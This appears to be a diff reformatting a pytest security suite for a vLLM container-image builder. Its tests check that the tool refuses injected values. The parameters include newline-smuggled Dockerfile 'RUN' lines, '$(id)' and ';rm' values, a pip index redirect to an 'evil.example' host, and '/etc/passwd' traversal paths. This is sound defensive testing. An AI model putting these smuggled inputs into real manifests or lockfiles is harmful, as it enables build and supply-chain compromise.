@@ -33,17 +33,23 @@ def run(*args: str, env: dict | None = None):
 
 
 def _files(d: Path) -> dict[str, str]:
-    return {str(p.relative_to(d)): hashlib.sha256(p.read_bytes()).hexdigest()
-            for p in sorted(d.rglob("*")) if p.is_file()} if d.exists() else {}
+    return (
+        {str(p.relative_to(d)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(d.rglob("*")) if p.is_file()}
+        if d.exists()
+        else {}
+    )
 
 
 # ============================================================== 1. Dockerfile injection through a manifest
-@pytest.mark.parametrize("field, value", [
-    ("digest", "sha256:" + "0" * 64 + "\nRUN touch /pwned"),
-    ("ref", "vllm/vllm-openai:v0.26.0\nRUN touch /pwned"),
-    ("ref", "vllm/vllm-openai:v0.26.0 AS x"),
-    ("digest", "sha256:" + "0" * 63 + "\x1b"),
-])
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("digest", "sha256:" + "0" * 64 + "\nRUN touch /pwned"),
+        ("ref", "vllm/vllm-openai:v0.26.0\nRUN touch /pwned"),
+        ("ref", "vllm/vllm-openai:v0.26.0 AS x"),
+        ("digest", "sha256:" + "0" * 63 + "\x1b"),
+    ],
+)
 def test_a_manifest_image_field_outside_its_grammar_is_refused_by_render(tmp_path, field, value):
     ctx, _plan = tiny_context(tmp_path)
     before = _files(ctx)
@@ -68,8 +74,20 @@ def test_a_manifest_distribution_name_or_version_outside_pep_508_440_is_refused(
 def test_base_snapshot_image_ref_with_a_newline_is_refused_and_writes_nothing(tmp_path):
     sp = _site(tmp_path / "sp", [("purepkg", "1.0")])
     out = tmp_path / "m.json"
-    code, msg = run("base", "snapshot", "--site-packages", str(sp), "--python", "3.12", "--glibc", "2.35",
-                    "--image-ref", "vllm/vllm-openai:v0.26.0\nRUN id", "-o", str(out))
+    code, msg = run(
+        "base",
+        "snapshot",
+        "--site-packages",
+        str(sp),
+        "--python",
+        "3.12",
+        "--glibc",
+        "2.35",
+        "--image-ref",
+        "vllm/vllm-openai:v0.26.0\nRUN id",
+        "-o",
+        str(out),
+    )
     assert code == 2 and "'image.ref'" in msg and not out.exists(), msg
 
 
@@ -92,16 +110,29 @@ def test_a_raw_string_with_a_line_break_cannot_reach_the_dockerfile_or_the_lock(
         values.guard("ok\u2028RUN x")
 
 
-@pytest.mark.parametrize("cls, good, bad", [
-    (values.ImageRef, ["vllm/vllm-openai:v0.26.0", "127.0.0.1:5000/a/b@sha256:" + "a" * 64, "localhost/x"],
-     ["x\ny", "UPPER/x", "a b", "ev$(id).io:5000/x", "reg.io/x:" + "t" * 200, "/x", "x:"]),
-    (values.Digest, ["sha256:" + "0" * 64], ["sha256:" + "0" * 64 + "\n", "sha256:" + "A" * 64, "md5:00"]),
-    (values.Repository, ["127.0.0.1:5000/serving/vllm", "reg.example/x"],
-     ["ev$(id).io:5000/x", "reg.io/x:tag", "reg.io:port/x", "a\x1b[2Jb/x"]),
-    (values.DistName, ["numpy", "zope.interface", "a_b-c"], ["../../x pkg;rm", "-x", "x\n", ""]),
-    (values.Version, ["1.26.4", "2.0.0rc1", "1.0+local.1"], ["latest", "1.0;rm", "1.0\n"]),
-    (values.Url, ["https://h/simple", "file:///srv/w.whl"], ["https://h/a b", "ftp://h/", "https://h:x/", "http:///"]),
-])
+@pytest.mark.parametrize(
+    "cls, good, bad",
+    [
+        (
+            values.ImageRef,
+            ["vllm/vllm-openai:v0.26.0", "127.0.0.1:5000/a/b@sha256:" + "a" * 64, "localhost/x"],
+            ["x\ny", "UPPER/x", "a b", "ev$(id).io:5000/x", "reg.io/x:" + "t" * 200, "/x", "x:"],
+        ),
+        (values.Digest, ["sha256:" + "0" * 64], ["sha256:" + "0" * 64 + "\n", "sha256:" + "A" * 64, "md5:00"]),
+        (
+            values.Repository,
+            ["127.0.0.1:5000/serving/vllm", "reg.example/x"],
+            ["ev$(id).io:5000/x", "reg.io/x:tag", "reg.io:port/x", "a\x1b[2Jb/x"],
+        ),
+        (values.DistName, ["numpy", "zope.interface", "a_b-c"], ["../../x pkg;rm", "-x", "x\n", ""]),
+        (values.Version, ["1.26.4", "2.0.0rc1", "1.0+local.1"], ["latest", "1.0;rm", "1.0\n"]),
+        (
+            values.Url,
+            ["https://h/simple", "file:///srv/w.whl"],
+            ["https://h/a b", "ftp://h/", "https://h:x/", "http:///"],
+        ),
+    ],
+)
 def test_typed_constructors_hold_their_grammar(cls, good, bad):
     for v in good:
         assert cls(v, "f") == v and isinstance(cls(v, "f"), cls)
@@ -128,13 +159,20 @@ def _pylock(tmp_path: Path, edit) -> Path:
     return p
 
 
-@pytest.mark.parametrize("where, edit", [
-    ("via", lambda d: d["packages"][0]["tool"]["build-image"].__setitem__(
-        "via", ["-r overlay\n--extra-index-url http://evil.example/simple\nevil==6.6.6"])),
-    ("header", lambda d: d["tool"]["build-image"]["header"].__setitem__("tool", "t\n--index-url http://evil/")),
-    ("overlay", lambda d: d["tool"]["build-image"].__setitem__("overlay", ["six\nevil==1"])),
-    ("name", lambda d: d["packages"][0]["tool"]["build-image"].__setitem__("name", "six\nevil")),
-])
+@pytest.mark.parametrize(
+    "where, edit",
+    [
+        (
+            "via",
+            lambda d: d["packages"][0]["tool"]["build-image"].__setitem__(
+                "via", ["-r overlay\n--extra-index-url http://evil.example/simple\nevil==6.6.6"]
+            ),
+        ),
+        ("header", lambda d: d["tool"]["build-image"]["header"].__setitem__("tool", "t\n--index-url http://evil/")),
+        ("overlay", lambda d: d["tool"]["build-image"].__setitem__("overlay", ["six\nevil==1"])),
+        ("name", lambda d: d["packages"][0]["tool"]["build-image"].__setitem__("name", "six\nevil")),
+    ],
+)
 def test_a_pylock_value_with_a_line_break_is_refused_by_render_and_lock_check(tmp_path, where, edit):
     tiny_context(tmp_path)
     p = _pylock(tmp_path, edit)
@@ -188,8 +226,9 @@ def test_compile_cache_outside_its_grammar_is_refused(value):
     assert values.compile_cache("pvc:vllm-cache.v1") == "pvc:vllm-cache.v1"
 
 
-@pytest.mark.parametrize("serving", [dict(kv_cache_dtype="fp9"), dict(compile_cache="pvc:claim\n"),
-                                     dict(model="/models/qwen\nkind: Secret")])
+@pytest.mark.parametrize(
+    "serving", [dict(kv_cache_dtype="fp9"), dict(compile_cache="pvc:claim\n"), dict(model="/models/qwen\nkind: Secret")]
+)
 def test_kuberay_refuses_what_plan_and_smoke_refuse(serving):
     from builder.serving import kuberay
     from builder.serving.plan import check_kv_cache_dtype, release_facts
@@ -205,18 +244,40 @@ def test_kuberay_refuses_what_plan_and_smoke_refuse(serving):
 
 # ============================================================== 7, 12. plan's file inputs and numbers
 #: a model the planner reads (28 layers x 8 KV heads x head_dim 128, about 600 GB of weights on 8 GPUs)
-MODEL_CONFIG = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "num_hidden_layers": 28,
-                "hidden_size": 8192, "intermediate_size": 28672, "num_attention_heads": 64,
-                "num_key_value_heads": 8, "head_dim": 128, "vocab_size": 128256,
-                "max_position_embeddings": 1000000, "torch_dtype": "bfloat16"}
+MODEL_CONFIG = {
+    "architectures": ["LlamaForCausalLM"],
+    "model_type": "llama",
+    "num_hidden_layers": 28,
+    "hidden_size": 8192,
+    "intermediate_size": 28672,
+    "num_attention_heads": 64,
+    "num_key_value_heads": 8,
+    "head_dim": 128,
+    "vocab_size": 128256,
+    "max_position_embeddings": 1000000,
+    "torch_dtype": "bfloat16",
+}
 
 
 @pytest.fixture(scope="module")
 def plan_args(tmp_path_factory) -> list[str]:
     d = tmp_path_factory.mktemp("model")
     (d / "config.json").write_text(json.dumps(MODEL_CONFIG))
-    return ["plan", "--model", str(d), "--weights-bytes", "600GB", "--gpus", "8", "--tp", "8", "--gpu-memory",
-            "h200", "--max-model-len", "4096"]
+    return [
+        "plan",
+        "--model",
+        str(d),
+        "--weights-bytes",
+        "600GB",
+        "--gpus",
+        "8",
+        "--tp",
+        "8",
+        "--gpu-memory",
+        "h200",
+        "--max-model-len",
+        "4096",
+    ]
 
 
 def _strict_json(text: str):
@@ -232,10 +293,17 @@ def test_plan_refuses_a_rate_that_gives_no_finite_time(plan_args, rate):
     assert code == 2 and "--pull-bandwidth" in out, out
 
 
-@pytest.mark.parametrize("doc", [
-    {"layers": [{"size": "abc"}]}, {"layers": [{"size": 10**400}]}, {"layers": [{"size": 1.5}]},
-    {"layers": [{"size": -1}]}, {"layers": [{"size": 1}], "config": "x"}, "deep",
-])
+@pytest.mark.parametrize(
+    "doc",
+    [
+        {"layers": [{"size": "abc"}]},
+        {"layers": [{"size": 10**400}]},
+        {"layers": [{"size": 1.5}]},
+        {"layers": [{"size": -1}]},
+        {"layers": [{"size": 1}], "config": "x"},
+        "deep",
+    ],
+)
 def test_plan_image_manifest_sizes_go_through_the_number_rules(plan_args, tmp_path, doc):
     p = tmp_path / "m.json"
     p.write_text("[" * 100_000 + "]" * 100_000 if doc == "deep" else json.dumps(doc))
@@ -256,7 +324,7 @@ def test_plan_image_files_are_read_bounded(plan_args, tmp_path, flag):
 def test_plan_json_is_valid_json_at_the_edges(plan_args):
     code, out = run(*plan_args, "--json", "--image-size", "1000000GB", "--pull-bandwidth", "1b/s")
     assert code in (0, 1), out
-    _strict_json(out[out.index("{"):])
+    _strict_json(out[out.index("{") :])
 
 
 # ============================================================== 4, 6. recipes --write under the output rule
@@ -295,8 +363,10 @@ def test_two_recipe_writes_for_different_releases_both_land(tmp_path):
 
     path = tmp_path / "recipes.toml"
     env = dict(os.environ, PYTHONPATH=str(ROOT), TMPDIR=str(tmp_path))
-    procs = [subprocess.Popen([sys.executable, "-c", _WRITER, str(path), v], env=env, stderr=subprocess.PIPE,
-                              text=True) for v in ("0.26.0", "0.27.0")]
+    procs = [
+        subprocess.Popen([sys.executable, "-c", _WRITER, str(path), v], env=env, stderr=subprocess.PIPE, text=True)
+        for v in ("0.26.0", "0.27.0")
+    ]
     for p in procs:
         assert p.wait(timeout=60) == 0, p.stderr.read()
     assert sorted(parse_recipes(path.read_text(), str(path))) == ["0.26.0", "0.27.0"]
@@ -314,8 +384,11 @@ def test_save_reference_refuses_what_it_did_not_write_and_redacts(tmp_path):
         with pytest.raises(BadInput):
             eqv.check_reference_output(str(target))
     assert user.read_text() == '{"mine": true}\n'
-    doc = {"schema": eqv.SCHEMA, "model": {"config": {"_name_or_path": f"https://bot:{SECRET}@hub.example/m"},
-                                           "identity_sha256": "0" * 64}, "prompts": []}
+    doc = {
+        "schema": eqv.SCHEMA,
+        "model": {"config": {"_name_or_path": f"https://bot:{SECRET}@hub.example/m"}, "identity_sha256": "0" * 64},
+        "prompts": [],
+    }
     real = tmp_path / "refs" / "ref.json"
     real.parent.mkdir()
     link = tmp_path / "ref.json"
@@ -347,8 +420,13 @@ def read_only(tmp_path):
         subprocess.run(["umount", str(d)], capture_output=True)
 
 
-@pytest.mark.parametrize("args", [["patch", "port", "--from", "0.26.0", "--to", "0.27.0", "-o"],
-                                  ["upgrade", "--from", "0.26.0", "--to", "0.27.0", "-o"]])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["patch", "port", "--from", "0.26.0", "--to", "0.27.0", "-o"],
+        ["upgrade", "--from", "0.26.0", "--to", "0.27.0", "-o"],
+    ],
+)
 def test_a_read_only_output_is_exit_2_naming_it_before_any_work(read_only, tmp_path, args):
     out = read_only / "pr"
     r = cli([*args, str(out)], env={"BUILD_IMAGE_CACHE": str(tmp_path / "cache")}, timeout=60)
@@ -381,8 +459,10 @@ def _site(root: Path, dists: list[tuple[str, str]], record: dict[str, list[str]]
 
 
 def _snapshot_cli(sp: Path, out: Path, timeout: int = 60):
-    return cli(["base", "snapshot", "--site-packages", str(sp), "--python", "3.12", "--glibc", "2.35", "-o",
-                str(out)], timeout=timeout)
+    return cli(
+        ["base", "snapshot", "--site-packages", str(sp), "--python", "3.12", "--glibc", "2.35", "-o", str(out)],
+        timeout=timeout,
+    )
 
 
 def test_the_scanner_opens_only_regular_files_inside_its_tree(tmp_path):
@@ -390,9 +470,15 @@ def test_the_scanner_opens_only_regular_files_inside_its_tree(tmp_path):
     outside = tmp_path / "outside"
     outside.mkdir()
     (outside / "evil.so").write_bytes(b"\x7fELF" + b"\0" * 60)
-    _site(sp, [("fifopkg", "1.0"), ("outpkg", "1.0"), ("longpkg", "1.0"), ("pure", "1.0")],
-          record={"fifopkg": ["fifopkg/pipe.so,,"], "outpkg": ["../outside/evil.so,,", "/etc/passwd,,"],
-                  "longpkg": ["x" * 200_000 + ",,", '"unterminated,,']})
+    _site(
+        sp,
+        [("fifopkg", "1.0"), ("outpkg", "1.0"), ("longpkg", "1.0"), ("pure", "1.0")],
+        record={
+            "fifopkg": ["fifopkg/pipe.so,,"],
+            "outpkg": ["../outside/evil.so,,", "/etc/passwd,,"],
+            "longpkg": ["x" * 200_000 + ",,", '"unterminated,,'],
+        },
+    )
     (sp / "fifopkg").mkdir()
     os.mkfifo(sp / "fifopkg" / "pipe.so")
     (sp / "dev.so").symlink_to("/dev/zero")
@@ -441,8 +527,9 @@ def test_reconstruct_reads_recipes_and_check_output_bounded(tmp_path):
     deep.write_text("[" * 100_000 + "]" * 100_000)
     code, out = run("base", "reconstruct", "--vllm", "0.26.0", "--check", "-o", str(deep))
     assert code == 2 and str(deep) in out, out
-    code, out = run("base", "reconstruct", "--vllm", "0.26.0", "--recipes", "/dev/zero", "-o",
-                    str(tmp_path / "new.json"))
+    code, out = run(
+        "base", "reconstruct", "--vllm", "0.26.0", "--recipes", "/dev/zero", "-o", str(tmp_path / "new.json")
+    )
     assert code == 2 and "/dev/zero" in out and not (tmp_path / "new.json").exists(), out
 
 
